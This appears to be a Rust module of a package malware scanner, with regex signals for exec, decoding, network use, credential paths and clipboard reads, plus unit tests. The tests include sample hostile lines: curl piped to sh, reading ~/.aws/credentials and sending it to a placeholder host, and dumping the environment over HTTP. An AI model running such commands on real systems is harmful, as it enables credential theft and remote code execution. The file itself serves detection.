//! Malware heuristics over source files.
//!
//! Each pattern is a *signal*. A capability (exec, network, subprocess) is ordinary on its
//! own; a threat (a decoded payload, a credential path, obfuscation, a hidden process,
//! the clipboard) is worth a warning; a threat beside the capability that would complete
//! an attack, in the same file, is worth a quarantine. One multi-pattern pass finds which
//! signals occur at all, so clean files cost one scan.

use crate::collect::Role;
use crate::excerpt::{excerpt, line_at};
use crate::report::{Finding, Severity};
use regex_automata::meta::Regex;
use regex_automata::{Input, MatchKind, PatternSet};
use std::sync::LazyLock;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Signal {
    /// `exec`/`eval` of a string, or JavaScript's `vm.run*`.
    Exec,
    /// Base64, hex, zlib, marshal or `chr()`-join decoding.
    Decode,
    /// Any network client or raw socket.
    Network,
    /// A file fetched from a URL, to disk or to a shell.
    Download,
    /// Download piped straight into a shell or an exec: complete by itself.
    DownloadPipe,
    /// Starting a process.
    Subprocess,
    /// Hiding or detaching a process.
    Silent,
    /// Credential stores, key files, or a dump of the environment.
    Credential,
    /// Reading the clipboard.
    Clipboard,
    /// Making a file executable.
    Chmod,
}

const PATTERNS: &[(Signal, &str)] = &[
    (Signal::Exec, r"(?:^|[^\w.])(?:exec|eval)\s*\("),
    (
        Signal::Exec,
        r#"__import__\(\s*['"]builtins['"]\s*\)\s*\.\s*(?:exec|eval)"#,
    ),
    (
        Signal::Exec,
        r"\bvm\.run(?:InNewContext|InThisContext|InContext)\s*\(",
    ),
    (Signal::Exec, r"\bnew\s+Function\s*\("),
    (
        Signal::Decode,
        r"\b(?:b64|b32|b16|b85|a85|urlsafe_b64|standard_b64)decode\s*\(",
    ),
    (Signal::Decode, r"\bbase64\.decode(?:bytes|string)\s*\("),
    (Signal::Decode, r"\bbytes\.fromhex\s*\(|\bunhexlify\s*\("),
    (
        Signal::Decode,
        r"\b(?:zlib|lzma|bz2|gzip)\.decompress\s*\(|\bmarshal\.loads\s*\(",
    ),
    (
        Signal::Decode,
        r#"\bcodecs\.decode\s*\([^)]*['"](?:hex|rot.?13|base64|zlib|bz2)"#,
    ),
    (
        Signal::Decode,
        r#"['"]\s*\.\s*join\s*\(\s*(?:map\s*\(\s*chr\b|\[?\s*chr\s*\()"#,
    ),
    (
        Signal::Decode,
        r#"\bBuffer\.from\s*\([^)]*['"](?:base64|hex)['"]|\batob\s*\("#,
    ),
    (
        Signal::Network,
        r"\burllib\.request\b|\burlopen\s*\(|\burllib2\b|\bhttp\.client\b|\bhttplib\b",
    ),
    (
        Signal::Network,
        r"\brequests\.(?:get|post|put|patch|request|Session)\b|\bhttpx\.|\baiohttp\.|\burllib3\.",
    ),
    (
        Signal::Network,
        r"\bsocket\.(?:socket|create_connection)\s*\(|\bsmtplib\.|\bftplib\.|\bparamiko\.",
    ),
    (
        Signal::Network,
        r"\bfetch\s*\(\s*['`]https?:|\bhttps?\.(?:request|get)\s*\(|\bXMLHttpRequest\b",
    ),
    (
        Signal::Network,
        r"discord(?:app)?\.com/api/webhooks|api\.telegram\.org/bot|hooks\.slack\.com/services",
    ),
    (
        Signal::Download,
        r"\burlretrieve\s*\(|Invoke-WebRequest|\.DownloadFile\s*\(|\.DownloadString\s*\(",
    ),
    (
        Signal::Download,
        r#"['"`](?:curl|wget)\s+(?:-[\w-]+\s+)*['"]?https?://"#,
    ),
    (Signal::Download, r"certutil(?:\.exe)?\s+-urlcache"),
    (
        Signal::DownloadPipe,
        r"\b(?:curl|wget)\b[^\n|;]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b",
    ),
    (
        Signal::DownloadPipe,
        r"(?:\b[Ii][Ee][Xx]\b|[Ii]nvoke-[Ee]xpression)\s*\(?\s*\(?\s*New-Object\s+Net\.WebClient",
    ),
    (
        Signal::DownloadPipe,
        r"(?:exec|eval)\s*\([^\n]*(?:urlopen|requests\.get|httpx\.get)\s*\(",
    ),
    (
        Signal::Subprocess,
        r"\bsubprocess\.(?:Popen|run|call|check_call|check_output|getoutput|getstatusoutput)\s*\(",
    ),
    (
        Signal::Subprocess,
        r"\bos\.(?:system|popen|spawn\w*|exec[lv]p?e?|posix_spawnp?)\s*\(|\bpty\.spawn\s*\(",
    ),
    (
        Signal::Subprocess,
        r"\bchild_process\b|\bexecSync\s*\(|\bspawnSync\s*\(",
    ),
    (
        Signal::Silent,
        r"\b(?:stdout|stderr)\s*=\s*subprocess\.DEVNULL|\bCREATE_NO_WINDOW\b|\bDETACHED_PROCESS\b",
    ),
    (
        Signal::Silent,
        r"start_new_session\s*=\s*True|\bnohup\b|>\s*/dev/null\s+2>&1|\bSW_HIDE\b|windowsHide\s*:\s*true",
    ),
    (
        Signal::Credential,
        r"~/\.(?:ssh|aws|gnupg|kube|docker)\b|\.ssh/id_(?:rsa|dsa|ecdsa|ed25519)\b",
    ),
    (
        Signal::Credential,
        r#"\.aws/credentials|\.git-credentials|\.pypirc\b|\.npmrc\b|\.docker/config\.json|['"]\.(?:aws|ssh|gnupg)['"]"#,
    ),
    (
        Signal::Credential,
        r"Login Data|Local Storage[/\\]+leveldb|\bwallet\.dat\b|/etc/shadow|login\.keychain",
    ),
    (
        Signal::Credential,
        r"json\.dumps\s*\(\s*(?:dict\s*\(\s*)?os\.environ\b|\bstr\s*\(\s*os\.environ\s*\)|JSON\.stringify\s*\(\s*process\.env\b",
    ),
    (
        Signal::Clipboard,
        r"\bpyperclip\b|\bwin32clipboard\b|\bclipboard_get\s*\(|\bGetClipboardData\b",
    ),
    (
        Signal::Clipboard,
        r"\bpbpaste\b|\bxclip\b|\bxsel\b|Get-Clipboard|navigator\.clipboard\.readText",
    ),
    (
        Signal::Chmod,
        r"\bos\.chmod\s*\([^)\n]*(?:0o?7[0-7]{2}|S_IEXEC|S_IXUSR)|\bchmod\s+\+x\b",
    ),
];

struct Compiled {
    /// Every pattern at once: which of them occur at all.
    set: Regex,
    /// Each pattern alone: where it first occurs.
    each: Vec<Regex>,
}

/// Unicode word boundaries keep the regex engine off its fast DFA whenever a
/// file holds non-ASCII text (measured: 1 s for one wheel); code is ASCII where
/// it matters, so the patterns use ASCII boundaries.
fn ascii_boundaries(pattern: &str) -> String {
    pattern.replace(r"\b", r"(?-u:\b)")
}

static COMPILED: LazyLock<Compiled> = LazyLock::new(|| {
    let sources: Vec<String> = PATTERNS.iter().map(|(_, p)| ascii_boundaries(p)).collect();
    Compiled {
        // The patterns are constants; a bad one is a bug that every test catches.
        // `All`, as a set needs: every pattern that matches anywhere is reported.
        set: Regex::builder()
            .configure(Regex::config().match_kind(MatchKind::All))
            .build_many(&sources)
            .expect("valid signal patterns"),
        each: sources
            .iter()
            .map(|p| Regex::new(p).expect("valid signal pattern"))
            .collect(),
    }
});

/// Where a signal first matched, as a byte offset.
#[derive(Debug, Clone, Copy)]
struct Hit {
    offset: usize,
}

/// The first hit of each signal in a file.
#[derive(Default)]
struct Signals {
    hits: Vec<(Signal, Hit)>,
}

impl Signals {
    fn find(text: &str) -> Self {
        let compiled = &*COMPILED;
        let mut hits: Vec<(Signal, Hit)> = Vec::new();
        let mut present = PatternSet::new(compiled.set.pattern_len());
        compiled
            .set
            .which_overlapping_matches(&Input::new(text), &mut present);
        for index in present.iter().map(|id| id.as_usize()) {
            let signal = PATTERNS[index].0;
            if let Some(m) = compiled.each[index].find(text) {
                let matched = &text[m.range()];
                // Patterns anchored on a preceding non-word character point past it.
                let lead = matched.len()
                    - matched
                        .trim_start_matches(|c: char| {
                            c.is_whitespace() || "(=;,:!&|{}+".contains(c)
                        })
                        .len();
                let hit = Hit {
                    offset: m.start() + lead,
                };
                match hits.iter_mut().find(|(s, _)| *s == signal) {
                    Some((_, old)) if old.offset > hit.offset => *old = hit,
                    Some(_) => {}
                    None => hits.push((signal, hit)),
                }
            }
        }
        Self { hits }
    }

    fn get(&self, signal: Signal) -> Option<Hit> {
        self.hits
            .iter()
            .find(|(s, _)| *s == signal)
            .map(|(_, h)| *h)
    }

    fn has(&self, signal: Signal) -> bool {
        self.get(signal).is_some()
    }
}

/// A line at least this long, with this much entropy, is not hand-written code.
const OBFUSCATED_LINE_CHARS: usize = 2000;
const OBFUSCATED_BITS_PER_CHAR: f64 = 4.5;

/// The first line that looks machine-obfuscated, as a byte offset.
fn obfuscated_line(text: &str) -> Option<Hit> {
    let mut offset = 0;
    for line in text.split_inclusive('\n') {
        if line.len() >= OBFUSCATED_LINE_CHARS
            && entropy(line.as_bytes()) >= OBFUSCATED_BITS_PER_CHAR
        {
            return Some(Hit { offset });
        }
        offset += line.len();
    }
    None
}

/// Runs this long of base64 characters, or of `\xHH` escapes, are payloads,
/// not code. Found by a byte loop: as regex repetitions they blow up the DFA.
const BLOB_BASE64_CHARS: usize = 600;
const BLOB_HEX_ESCAPES: usize = 200;

/// The start of the first long base64 run or `\xHH` escape run.
fn encoded_blob(text: &str) -> Option<Hit> {
    let bytes = text.as_bytes();
    let (mut run_start, mut run) = (0, 0);
    for (i, &b) in bytes.iter().enumerate() {
        if b.is_ascii_alphanumeric() || b == b'+' || b == b'/' {
            if run == 0 {
                run_start = i;
            }
            run += 1;
            if run >= BLOB_BASE64_CHARS {
                return Some(Hit { offset: run_start });
            }
        } else {
            run = 0;
        }
    }
    if !text.contains("\\x") {
        return None;
    }
    let (mut escapes, mut start, mut i) = (0, 0, 0);
    while i + 4 <= bytes.len() {
        if bytes[i] == b'\\'
            && bytes[i + 1] == b'x'
            && bytes[i + 2].is_ascii_hexdigit()
            && bytes[i + 3].is_ascii_hexdigit()
        {
            if escapes == 0 {
                start = i;
            }
            escapes += 1;
            if escapes >= BLOB_HEX_ESCAPES {
                return Some(Hit { offset: start });
            }
            i += 4;
        } else {
            escapes = 0;
            i += 1;
        }
    }
    None
}

/// Shannon entropy in bits per byte.
fn entropy(bytes: &[u8]) -> f64 {
    let mut counts = [0u32; 256];
    for &b in bytes {
        counts[b as usize] += 1;
    }
    let total = bytes.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = f64::from(c) / total;
            -p * p.log2()
        })
        .sum()
}

/// Builds findings for one file.
struct Emit<'a> {
    name: &'a str,
    text: &'a str,
    out: Vec<Finding>,
}

impl Emit<'_> {
    fn add(&mut self, rule: &str, severity: Severity, at: Hit, explanation: String) {
        let (line, start, content) = line_at(self.text, at.offset);
        self.out.push(Finding {
            rule: rule.to_owned(),
            severity,
            file: Some(self.name.to_owned()),
            line: Some(line),
            evidence: Some(excerpt(content, at.offset - start)),
            explanation,
            context: None,
            fingerprint: None,
            history: None,
        });
    }
}

/// Runs the heuristics over one text member.
pub fn scan(name: &str, text: &str, role: Role) -> Vec<Finding> {
    use Signal::*;
    let signals = Signals::find(text);
    // Minified JavaScript is long high-entropy lines by design (jQuery in Django,
    // Sphinx's themes): there only encoded blobs count.
    let lower = name.to_ascii_lowercase();
    let javascript = [".js", ".mjs", ".cjs"]
        .iter()
        .any(|ext| lower.ends_with(ext));
    let long_line = if javascript {
        None
    } else {
        obfuscated_line(text)
    };
    let obfuscated = long_line.or_else(|| encoded_blob(text));
    let mut emit = Emit {
        name,
        text,
        out: Vec::new(),
    };
    let network = signals.has(Network);
    let runs_code = signals.has(Exec) || signals.has(Subprocess);

    if let (Some(exec), true) = (
        signals.get(Exec),
        signals.has(Decode) || obfuscated.is_some(),
    ) {
        emit.add(
            "code.exec-decoded-payload",
            Severity::Quarantine,
            exec,
            "code is executed in a file that decodes an encoded payload (base64, hex, zlib, marshal or chr-joined)".into(),
        );
    }
    if let Some(hit) = signals.get(DownloadPipe) {
        emit.add(
            "code.download-exec",
            Severity::Quarantine,
            hit,
            "fetched content is piped into a shell or executed directly".into(),
        );
    } else if let (Some(hit), true) = (signals.get(Download), runs_code || signals.has(Chmod)) {
        emit.add(
            "code.download-exec",
            Severity::Quarantine,
            hit,
            "a file is downloaded in code that also runs processes or makes files executable"
                .into(),
        );
    }
    if let Some(hit) = signals.get(Credential) {
        if network {
            emit.add(
                "code.credential-exfil",
                Severity::Quarantine,
                hit,
                "credentials or the environment are read in a file that also sends data over the network".into(),
            );
        } else {
            emit.add(
                "code.credential-access",
                Severity::Warn,
                hit,
                "credential files or an environment dump are read".into(),
            );
        }
    }
    if let Some(hit) = obfuscated {
        // With exec, the exec-decoded-payload finding above already says it.
        if !signals.has(Exec) {
            let raised = network || signals.has(Subprocess);
            emit.add(
                "code.obfuscated",
                if raised { Severity::Quarantine } else { Severity::Warn },
                hit,
                if raised {
                    "an obfuscated or encoded blob sits in code that uses the network or starts processes".into()
                } else {
                    "a huge high-entropy line or a long encoded blob".into()
                },
            );
        }
    }
    if let (Some(hit), true) = (signals.get(Silent), signals.has(Subprocess)) {
        emit.add(
            "code.silent-subprocess",
            if network {
                Severity::Quarantine
            } else {
                Severity::Warn
            },
            hit,
            if network {
                "a hidden or detached process is started in code that also uses the network".into()
            } else {
                "a process is started hidden or detached".into()
            },
        );
    }
    if let Some(hit) = signals.get(Clipboard) {
        emit.add(
            "code.clipboard",
            if network {
                Severity::Quarantine
            } else {
                Severity::Warn
            },
            hit,
            if network {
                "the clipboard is read in code that also uses the network".into()
            } else {
                "the clipboard is read".into()
            },
        );
    }
    if role == Role::SetupPy {
        if let Some(hit) = signals.get(Network).or(signals.get(Download)) {
            emit.add(
                "install.setup-network",
                Severity::Quarantine,
                hit,
                "setup.py touches the network, which runs on every install from source".into(),
            );
        } else if let Some(hit) = signals.get(Subprocess) {
            emit.add(
                "install.setup-command",
                Severity::Warn,
                hit,
                "setup.py runs a command, which happens on every install from source".into(),
            );
        }
    }
    emit.out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(text: &str, role: Role) -> Vec<(String, Severity)> {
        scan("pkg/mod.py", text, role)
            .into_iter()
            .map(|f| (f.rule, f.severity))
            .collect()
    }

    fn has(found: &[(String, Severity)], rule: &str, severity: Severity) -> bool {
        found.iter().any(|(r, s)| r == rule && *s == severity)
    }

    #[test]
    fn every_pattern_compiles() {
        assert_eq!(COMPILED.each.len(), PATTERNS.len());
    }

    #[test]
    fn exec_of_a_decoded_payload_is_quarantined_with_its_line() {
        let text = "import base64\n\nexec(base64.b64decode('aW1wb3J0IG9z'))\n";
        let findings = scan("demo-1.0/setup.py", text, Role::SetupPy);
        let f = findings
            .iter()
            .find(|f| f.rule == "code.exec-decoded-payload")
            .unwrap();
        assert_eq!((f.severity, f.line), (Severity::Quarantine, Some(3)));
        assert_eq!(
            f.evidence.as_deref(),
            Some("exec(base64.b64decode('aW1wb3J0IG9z'))")
        );
    }

    #[test]
    fn a_capability_alone_is_not_a_finding() {
        assert!(rules("import requests\nrequests.get(url)\n", Role::Code).is_empty());
        assert!(rules("import subprocess\nsubprocess.run(['ls'])\n", Role::Code).is_empty());
        assert!(rules("data = base64.b64decode(s)\n", Role::Code).is_empty());
        assert!(rules("x = ast.literal_eval(s)\nself.eval(y)\n", Role::Code).is_empty());
    }

    #[test]
    fn credentials_plus_network_is_exfiltration_and_alone_a_warning() {
        let read = "p = os.path.expanduser('~/.aws/credentials')\ndata = open(p).read()\n";
        assert!(has(
            &rules(read, Role::Code),
            "code.credential-access",
            Severity::Warn
        ));
        let sent = format!("{read}urllib.request.urlopen('https://x.example/c', data.encode())\n");
        assert!(has(
            &rules(&sent, Role::Code),
            "code.credential-exfil",
            Severity::Quarantine
        ));
        let env =
            "import json, os, requests\nrequests.post(u, data=json.dumps(dict(os.environ)))\n";
        assert!(has(
            &rules(env, Role::Code),
            "code.credential-exfil",
            Severity::Quarantine
        ));
    }

    #[test]
    fn download_and_execute_in_its_forms() {
        let piped = "os.system('curl -fsSL https://x.example/i.sh | sh')\n";
        assert!(has(
            &rules(piped, Role::Code),
            "code.download-exec",
            Severity::Quarantine
        ));
        let saved = "urllib.request.urlretrieve(u, '/tmp/x')\nos.chmod('/tmp/x', 0o755)\nsubprocess.Popen(['/tmp/x'])\n";
        assert!(has(
            &rules(saved, Role::Code),
            "code.download-exec",
            Severity::Quarantine
        ));
        let fetched = "exec(urllib.request.urlopen(u).read())\n";
        assert!(has(
            &rules(fetched, Role::Code),
            "code.download-exec",
            Severity::Quarantine
        ));
        assert!(rules("urllib.request.urlretrieve(u, 'data.csv')\n", Role::Code).is_empty());
    }

    #[test]
    fn obfuscation_is_a_warning_until_it_meets_the_network() {
        let blob = format!("PAYLOAD = '{}'\n", "QUJD".repeat(300));
        assert!(has(
            &rules(&blob, Role::Code),
            "code.obfuscated",
            Severity::Warn
        ));
        let sent = format!("{blob}socket.socket(socket.AF_INET).connect((h, 80))\n");
        assert!(has(
            &rules(&sent, Role::Code),
            "code.obfuscated",
            Severity::Quarantine
        ));
        let noisy: String = (0..3000u32)
            .map(|i| char::from(b'!' + (i.wrapping_mul(7919) % 90) as u8))
            .collect();
        assert!(has(
            &rules(&format!("x = 1\n{noisy}\n"), Role::Code),
            "code.obfuscated",
            Severity::Warn
        ));
        let plain = format!("x = [{}]\n", "0, ".repeat(1000));
        assert!(
            rules(&plain, Role::Code).is_empty(),
            "a long but repetitive line is not obfuscated"
        );
    }

    #[test]
    fn hidden_processes_and_clipboard_escalate_beside_network() {
        let hidden =
            "subprocess.Popen(cmd, stdout=subprocess.DEVNULL, creationflags=CREATE_NO_WINDOW)\n";
        assert!(has(
            &rules(hidden, Role::Code),
            "code.silent-subprocess",
            Severity::Warn
        ));
        let online = format!("{hidden}requests.post(u, data=x)\n");
        assert!(has(
            &rules(&online, Role::Code),
            "code.silent-subprocess",
            Severity::Quarantine
        ));
        assert!(has(
            &rules("import pyperclip\npyperclip.paste()\n", Role::Code),
            "code.clipboard",
            Severity::Warn
        ));
    }

    #[test]
    fn long_encoded_runs_are_found_and_short_ones_are_not() {
        let base64 = format!("x = '{}'", "QUJD".repeat(150));
        assert_eq!(encoded_blob(&base64).map(|h| h.offset), Some(5));
        assert!(encoded_blob(&format!("x = '{}'", "QUJD".repeat(149))).is_none());
        let hex = format!("b = b'{}'", "\\x41".repeat(200));
        assert_eq!(encoded_blob(&hex).map(|h| h.offset), Some(6));
        assert!(encoded_blob(&format!("b = b'{}'", "\\x41".repeat(199))).is_none());
    }

    #[test]
    fn setup_py_network_and_commands() {
        let net = "from setuptools import setup\nimport urllib.request\nurllib.request.urlopen(u)\nsetup()\n";
        assert!(has(
            &rules(net, Role::SetupPy),
            "install.setup-network",
            Severity::Quarantine
        ));
        let cmd = "import subprocess\nv = subprocess.check_output(['git', 'describe'])\n";
        assert!(has(
            &rules(cmd, Role::SetupPy),
            "install.setup-command",
            Severity::Warn
        ));
        assert!(
            rules(cmd, Role::Code).is_empty(),
            "only the sdist's setup.py runs at install"
        );
    }
}
